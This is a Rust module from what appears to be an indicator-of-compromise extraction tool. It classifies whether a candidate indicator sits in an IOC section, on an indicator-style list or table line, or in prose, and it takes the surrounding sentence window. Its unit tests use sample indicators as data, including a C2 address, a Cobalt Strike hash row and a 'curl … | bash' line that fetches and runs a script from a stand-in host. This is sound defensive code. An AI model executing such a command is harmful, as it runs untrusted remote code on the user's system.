//! Where an indicator sits: in an indicator section (after a heading such as
//! "Indicators of Compromise", until the next other heading), on an IOC-style line (a
//! list item or table row that is mostly indicators), or in prose; and the words around
//! it. A text that is nothing but such lines is an indicator list as a whole.

use std::ops::Range;

use memchr::{memchr, memrchr};

use super::kb::IocKb;

/// Facts about one candidate's surroundings.
#[derive(Debug, Clone)]
pub(crate) struct Facts {
    /// The line is mostly indicators: a list item, table row or command line.
    pub ioc_line: bool,
    /// The line is in an indicator section (or the whole text is an indicator list).
    pub ioc_section: bool,
    /// The line is in a references section ("References", "Resources", "Related").
    pub in_refs: bool,
    /// The line names an indicator type or reports maliciousness ("C2:", "Domain",
    /// "malicious URL"): a list item with such a label is an indicator.
    pub ioc_label: bool,
    /// Byte range of the candidate's line.
    pub line: Range<usize>,
    /// Byte range of the sentence-ish window around the candidate.
    pub window: Range<usize>,
}

/// Walks the text's lines forward as candidates are judged in text order.
pub(crate) struct Context<'a> {
    t: &'a str,
    kb: &'a IocKb,
    /// Start of the next line the section tracker has not read.
    cursor: usize,
    in_section: bool,
    in_refs: bool,
    /// Inside a table whose rows so far (its header) named an indicator type.
    table_label: bool,
    prev_blank: bool,
    whole_list: Option<bool>,
    /// The last candidate's line and whether it is IOC-style (candidates share lines).
    line: Range<usize>,
    line_ioc: bool,
    line_label: bool,
}

/// Most prose words a list item may carry ("C2 server:", "SHA256", "dropper").
const LIST_WORDS: usize = 3;
/// Most prose words of a table row (a description column).
const TABLE_WORDS: usize = 12;

impl<'a> Context<'a> {
    pub fn new(t: &'a str, kb: &'a IocKb) -> Self {
        Self {
            t,
            kb,
            cursor: 0,
            in_section: false,
            in_refs: false,
            table_label: false,
            prev_blank: true,
            whole_list: None,
            line: 0..0,
            line_ioc: false,
            line_label: false,
        }
    }

    /// Facts for a candidate at `span`; calls must come in text order.
    pub fn facts(&mut self, span: Range<usize>) -> Facts {
        let b = self.t.as_bytes();
        let cached = self.line.start <= span.start
            && span.start < self.line.end.max(self.line.start + 1)
            && !self.line.is_empty();
        if !cached {
            let ls = memrchr(b'\n', &b[..span.start]).map_or(0, |i| i + 1);
            let le = memchr(b'\n', &b[span.start..]).map_or(b.len(), |i| span.start + i);
            self.advance_to(ls);
            self.line = ls..le;
            let line = &self.t[ls..le];
            self.line_ioc = ioc_style(line);
            self.line_label = self.line_ioc
                && ((is_table_line(line) && self.table_label)
                    || has_word(line, &self.kb.ctx.ioc_words)
                    || self.kb.ctx.malicious.any_in(line));
        }
        let whole = self.whole_list();
        Facts {
            ioc_line: self.line_ioc,
            ioc_section: whole || self.in_section,
            in_refs: self.in_refs && !whole,
            ioc_label: self.line_label,
            line: self.line.clone(),
            window: window(self.t, self.line.clone(), span),
        }
    }

    /// Reads section headings in the lines before `line_start`.
    fn advance_to(&mut self, line_start: usize) {
        let b = self.t.as_bytes();
        while self.cursor < line_start {
            let s = self.cursor;
            let e = memchr(b'\n', &b[s..line_start]).map_or(line_start, |i| s + i);
            self.cursor = e + 1;
            let line = self.t[s..e].trim();
            let lb = line.as_bytes();
            // A table's header names the type of the values in its rows.
            let tableish = matches!(lb.first(), Some(b'|' | b'+')) || memchr(b'\t', lb).is_some();
            if tableish && is_table_line(line) {
                self.table_label |= has_word(line, &self.kb.ctx.ioc_words);
            } else {
                self.table_label = false;
            }
            if line.is_empty() {
                self.prev_blank = true;
                continue;
            }
            let prev_blank = std::mem::replace(&mut self.prev_blank, false);
            let Some(titled) = heading_shape(line) else {
                continue;
            };
            let next_blank = || {
                let ns = (e + 1).min(b.len());
                let ne = memchr(b'\n', &b[ns..]).map_or(b.len(), |i| ns + i);
                self.t[ns..ne].trim().is_empty()
            };
            let strong = line.starts_with('#')
                || (titled && prev_blank && !line.ends_with(':') && next_blank());
            let ioc = has_word(line, &self.kb.ctx.ioc_words);
            let refs = !ioc && has_word(line, &self.kb.ctx.reference_words);
            if strong {
                self.in_section = ioc;
                self.in_refs = refs;
            } else if ioc {
                self.in_section = true;
                self.in_refs = false;
            } else if refs {
                self.in_section = false;
                self.in_refs = true;
            }
        }
    }

    /// Whether the text is a pasted indicator list: every non-blank line IOC-style and
    /// no heading (a text with headings has sections, which decide instead).
    fn whole_list(&mut self) -> bool {
        *self.whole_list.get_or_insert_with(|| {
            let mut prev_blank = true;
            let mut lines = self.t.lines().map(str::trim).peekable();
            while let Some(l) = lines.next() {
                if l.is_empty() {
                    prev_blank = true;
                    continue;
                }
                let next_blank = lines.peek().is_none_or(|n| n.is_empty());
                if !ioc_style(l) || matches!(heading(l, prev_blank, next_blank), Heading::Strong) {
                    return false;
                }
                prev_blank = false;
            }
            true
        })
    }
}

enum Heading {
    /// Not a heading.
    Not,
    /// A short label line ("The following domains were used:"): opens a section when it
    /// names indicators, closes nothing.
    Weak,
    /// A heading set apart (Markdown `#`, or blank lines around a short title): it opens
    /// an indicator section or closes the current one.
    Strong,
}

fn heading(line: &str, prev_blank: bool, next_blank: bool) -> Heading {
    match heading_shape(line) {
        None => Heading::Not,
        Some(_) if line.starts_with('#') => Heading::Strong,
        Some(titled) if titled && prev_blank && next_blank && !line.ends_with(':') => {
            Heading::Strong
        }
        Some(_) => Heading::Weak,
    }
}

/// Whether a (trimmed) line is shaped like a heading or label: a Markdown heading, or
/// one to eight words (a leading section number allowed) without sentence punctuation
/// at the end; and whether it starts with a capital.
fn heading_shape(line: &str) -> Option<bool> {
    if line.starts_with('#') {
        return Some(true);
    }
    if line.len() > 100 || line.ends_with(['.', ',', ';', '!', '?']) {
        return None;
    }
    let mut words = 0;
    for tok in line.split_whitespace() {
        let w = tok.trim_matches(|c: char| !c.is_alphanumeric());
        if w.is_empty() {
            continue;
        }
        // Indicators and numbers are not heading words (section numbers excepted).
        let numbering = words == 0 && w.bytes().all(|c| c.is_ascii_digit() || c == b'.');
        let wordy = || {
            w.chars()
                .all(|c| c.is_alphabetic() || matches!(c, '-' | '&' | '\'' | '’'))
        };
        if !numbering && !wordy() {
            return None;
        }
        words += 1;
    }
    if words == 0 || words > 8 {
        return None;
    }
    Some(
        line.chars()
            .find(|c| c.is_alphabetic())
            .is_some_and(char::is_uppercase),
    )
}

fn has_word(line: &str, words: &super::kb::FastSet<String>) -> bool {
    // Words are ASCII letters, digits, '-' and '&' (the lists hold no other kind).
    let mut buf = [0u8; 24];
    line.as_bytes()
        .split(|&c| !(c.is_ascii_alphanumeric() || c == b'-' || c == b'&'))
        .filter(|w| !w.is_empty() && w.len() <= 24)
        .any(|w| {
            let lower = &mut buf[..w.len()];
            lower.copy_from_slice(w);
            lower.make_ascii_lowercase();
            std::str::from_utf8(lower).is_ok_and(|l| words.contains(l))
        })
}

/// A row or rule of a Markdown or ASCII table (`| a | b |`, `+----+----+`), or a
/// tab-separated row.
fn is_table_line(line: &str) -> bool {
    let b = line.trim().as_bytes();
    b.iter().filter(|&&c| c == b'|').count() >= 2
        || b.contains(&b'\t')
        || (b.len() > 3 && b[0] == b'+' && b.iter().all(|&c| matches!(c, b'+' | b'-' | b'=')))
}

/// A line that is mostly indicators: few prose words (letters only), or a table row.
pub(crate) fn ioc_style(line: &str) -> bool {
    let mut prose = 0;
    for tok in line.as_bytes().split(|c| c.is_ascii_whitespace()) {
        if is_prose_word(tok) {
            prose += 1;
            if prose > TABLE_WORDS {
                return false;
            }
        }
    }
    if prose <= LIST_WORDS {
        return true;
    }
    let b = line.as_bytes();
    let table = b.iter().filter(|&&c| c == b'|').count() >= 2 || b.contains(&b'\t');
    table && prose <= TABLE_WORDS
}

/// A word of letters (apostrophes and hyphens inside), punctuation around it ignored.
fn is_prose_word(tok: &[u8]) -> bool {
    let s = tok.iter().position(u8::is_ascii_alphanumeric);
    let e = tok.iter().rposition(u8::is_ascii_alphanumeric);
    match (s, e) {
        (Some(s), Some(e)) if tok[s..=e].is_ascii() => tok[s..=e]
            .iter()
            .all(|&c| c.is_ascii_alphabetic() || c == b'\'' || c == b'-'),
        _ if !tok.is_ascii() => std::str::from_utf8(tok).is_ok_and(|w| {
            let w = w.trim_matches(|c: char| !c.is_alphanumeric());
            !w.is_empty()
                && w.chars()
                    .all(|c| c.is_alphabetic() || matches!(c, '\'' | '’' | '-'))
        }),
        _ => false,
    }
}

/// The sentence around `span` within its line, at most 240 bytes each side: from
/// after the last `. `, `! ` or `? ` before it to the first such end after it.
fn window(t: &str, line: Range<usize>, span: Range<usize>) -> Range<usize> {
    let b = t.as_bytes();
    let lo = line.start.max(span.start.saturating_sub(240));
    let hi = line.end.min(span.end + 240);
    let mut s = lo;
    let mut k = span.start;
    while let Some(i) = memchr::memrchr3(b'.', b'!', b'?', &b[lo..k]) {
        let i = lo + i;
        if b.get(i + 1) == Some(&b' ') {
            s = i + 2;
            break;
        }
        k = i;
    }
    let mut e = hi;
    let mut k = span.end.min(hi);
    while let Some(i) = memchr::memchr3(b'.', b'!', b'?', &b[k..hi]) {
        let i = k + i;
        if i + 1 >= b.len() || b[i + 1] == b' ' {
            e = i + 1;
            break;
        }
        k = i + 1;
    }
    s = t.ceil_char_boundary(s);
    e = t.floor_char_boundary(e);
    s.min(span.start)..e.max(span.end)
}

/// The last three words before `pos` on its line, not reaching back past `floor`
/// (nearest first, `""` where there are fewer), split at anything but letters, digits
/// and hyphens.
pub(crate) fn words_before(t: &str, floor: usize, pos: usize) -> [&str; 3] {
    let b = t.as_bytes();
    let ls = memrchr(b'\n', &b[..pos])
        .map_or(0, |i| i + 1)
        .max(floor)
        .min(pos);
    let mut s = pos.saturating_sub(80).max(ls);
    s = t.ceil_char_boundary(s);
    let mut out = [""; 3];
    let words = t[s..pos]
        .rsplit(|c: char| !(c.is_alphanumeric() || c == '-'))
        .filter(|w| !w.is_empty() && *w != "-");
    for (slot, w) in out.iter_mut().zip(words) {
        *slot = w;
    }
    out
}

/// Whether `set` (lower-case words) holds `word`, compared case-insensitively.
pub(crate) fn in_set(set: &super::kb::FastSet<String>, word: &str) -> bool {
    let mut buf = [0u8; 32];
    if word.is_empty() || word.len() > buf.len() || !word.is_ascii() {
        return false;
    }
    let lower = &mut buf[..word.len()];
    lower.copy_from_slice(word.as_bytes());
    lower.make_ascii_lowercase();
    std::str::from_utf8(lower).is_ok_and(|l| set.contains(l))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::iocs::kb::tests::embedded;

    #[test]
    fn ioc_style_lines() {
        for l in [
            "evil[.]com",
            "- hxxp://evil.com/gate.php",
            "C2 server: 185.220.101.45",
            "SHA256 | 9002a1d3… | loader.dll | Cobalt Strike beacon",
            "curl -s https://x.example/a.sh | bash",
        ] {
            assert!(ioc_style(l), "{l}");
        }
        assert!(!ioc_style(
            "The actor registered the domain evil.com in March to host the kit."
        ));
    }

    #[test]
    fn sections_open_at_ioc_headings_and_close_at_others() {
        let kb = embedded();
        let text = "Intro prose line that is long enough to be prose, really.\n\n\
                    Indicators of Compromise\n\nevil.com\nThe loader uses bad.com as its C2.\n\n\
                    Conclusion\n\nSee other.com for details.\n";
        let mut c = Context::new(text, &kb);
        let at = |s: &str| text.find(s).unwrap();
        let f = c.facts(at("evil.com")..at("evil.com") + 8);
        assert!(f.ioc_section && f.ioc_line);
        let f = c.facts(at("bad.com")..at("bad.com") + 7);
        assert!(f.ioc_section && !f.ioc_line);
        assert_eq!(
            &text[f.window.clone()],
            "The loader uses bad.com as its C2."
        );
        let f = c.facts(at("other.com")..at("other.com") + 9);
        assert!(!f.ioc_section);
    }

    #[test]
    fn a_pure_list_is_one_section() {
        let kb = embedded();
        let text = "evil[.]com\n1.2.3.4\n\nhxxp://x.example/a\n";
        let mut c = Context::new(text, &kb);
        assert!(c.facts(0..4).ioc_section);
        let prose = "some text with a domain.like.uk in it";
        assert!(!Context::new(prose, &kb).facts(17..31).ioc_section);
    }

    #[test]
    fn words_before_stop_at_the_line() {
        let t = "x\nCertificate thumbprint: ABCDEF";
        let pos = t.find("ABC").unwrap();
        assert_eq!(words_before(t, 0, pos), ["thumbprint", "Certificate", ""]);
        assert_eq!(words_before(t, 0, 0), ["", "", ""]);
        let kb = embedded();
        assert!(in_set(&kb.ctx.hash_certificate, "Thumbprint"));
        assert!(!in_set(&kb.ctx.hash_not_file, "sample"));
    }
}
